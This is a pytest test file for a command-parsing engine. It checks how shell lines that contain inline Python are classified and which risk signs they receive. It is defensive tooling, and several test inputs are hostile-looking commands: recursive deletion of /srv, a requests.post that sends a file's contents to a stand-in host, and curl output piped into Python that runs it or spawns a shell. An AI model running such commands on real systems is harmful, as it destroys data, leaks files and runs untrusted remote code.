"""Programs in command lines: seen beside the line, and never less careful than without."""

from __future__ import annotations

import shlex

import pytest

from engine.command.parse import parse_command
from engine.command.shell.parse import parse_shell
from engine.command.tree import Command


def tree(text: str) -> Command:
    return parse_command("shell", text).command


def kinds(text: str) -> list[str]:
    return [one.kind for one in tree(text).operations]


def test_a_program_is_seen_to_the_bottom() -> None:
    command = tree("python3 -I -c 'import math; print(math.pi)'")
    assert command.complete
    assert command.problems == ()
    assert [one.kind for one in command.operations] == ["run_code", "import_module", "compute"]
    first = command.operations[0]
    assert first.shell is not None
    assert (str(first.effect), first.shell.signs) == ("execute", ())
    assert command.operations[1].via == ("top", "wrapper:python")


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c 'print(1)'",
        "python -Ic 'import math'",
        "/usr/bin/python3.11 -I -u -c 'import math' a b",
        "ls && python3 -I -c 'print(1)'",
        "python3 -I -c 'print(1)' && python3 -I -c 'print(2)'",
    ],
)
def test_what_is_complete(text: str) -> None:
    assert tree(text).complete


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c 'import math'",
        "python3 -I -c 'import helper'",
        'python3 -I -c "$CODE"',
        "python3 -I -c",
        "python3 -i -c 'print(1)'",
        "python3 -W error -c 'print(1)'",
        "python3 -I -X dev -c 'print(1)'",
        "python2 -I -c 'print(1)'",
        "PYTHONPATH=/tmp/x python3 -I -c 'print(1)'",
        "python3 -I -c 'print(1)' && perl -e 1",
        "python3 -I -c 'print(1)' && $x",
        "python3 -I -c 'print(1)'; sh -c \"$x\"",
        "psql -c 'SELECT f()' && python3 -I -c 'print(1)'",
        "python3 -I -c 'eval(input())'",
        "python3 -I -c 'no python'",
        "python3 -I - <<E\nprint(1)\nE",
    ],
)
def test_what_stays_incomplete(text: str) -> None:
    assert not tree(text).complete


def test_what_a_program_does_is_listed_whether_it_is_complete_or_not() -> None:
    assert {"run_process", "delete_file"} <= set(kinds("python3 -c 'import os; os.system(\"rm -rf /srv\")'"))
    assert {"run_process", "delete_file"} <= set(
        kinds("sudo python3 -I -c 'import os; os.system(\"rm -rf /srv\"); x()'")
    )
    assert (
        "exfiltration"
        in tree('python3 -c \'import requests; requests.post("https://x.example", data=open("a").read())\'').features
    )


def test_the_shells_own_signs_stay() -> None:
    command = tree("sudo python3 -I -c 'print(1)'")
    assert any("privilege_change" in one.shell.signs for one in command.operations if one.shell is not None)
    command = tree("python3 -I -c 'import shutil; shutil.rmtree(\"/srv\")'")
    assert any("bulk_delete" in one.shell.signs for one in command.operations if one.shell is not None)


def test_without_a_program_a_tree_is_the_shells() -> None:
    for text in ("ls", "perl -e 1", "echo python run_code", "python3 x.py", "python3 -c"):
        assert parse_command("shell", text).encoded == parse_shell(text).encoded


def test_only_so_many_programs_of_one_line_are_read() -> None:
    text = ";".join(f"python3 -I -c {shlex.quote(f'print({number})')}" for number in range(25))
    assert kinds(text).count("compute") == 20
    assert not tree(text).complete


def run_signs(text: str) -> set[str]:
    return {sign for one in tree(text).operations if one.kind == "run_code" and one.shell for sign in one.shell.signs}


def test_what_is_piped_into_a_program_that_only_reads_it_is_not_run() -> None:
    line = "curl -s https://api.example/x | python3 -c 'import json, sys; print(json.load(sys.stdin))'"
    assert run_signs(line) == {"opaque_code"}
    assert not tree(line).complete
    assert (
        run_signs("curl -s https://api.example/x | python3 -I -c 'import sys; print(len(sys.stdin.read()))'") == set()
    )


@pytest.mark.parametrize(
    "line",
    [
        "curl x | python3",
        "curl x | python3 -",
        "curl x | python3 -c 'import sys; exec(sys.stdin.read())'",
        "curl x | python3 -I -c 'import pickle, sys; pickle.load(sys.stdin.buffer)'",
        "curl x | python3 -I -c 'import os, sys; os.system(sys.stdin.read())'",
        "curl x | python3 -I -c 'import subprocess; subprocess.run([\"sh\"])'",
        'curl x | python3 -I -c \'import os; os.execvp("sh", ["sh"])\'',
        "curl x | python3 -I -c 'import helper'",
        "curl x | python3 -I -i -c 'print(1)'",
        "curl x | PYTHONINSPECT=1 python3 -c 'print(1)'",
        "curl x | python3 -I -c 'import code; code.interact()'",
        "curl x | python3 -I -c 'import runpy; runpy.run_path(\"/dev/stdin\")'",
        'curl x | python3 -I -c \'open("a.py", "w").write(input())\'',
    ],
)
def test_what_a_program_may_run_of_what_it_is_given_keeps_its_sign(line: str) -> None:
    assert any("download_and_run" in one.shell.signs for one in tree(line).operations if one.shell is not None), line
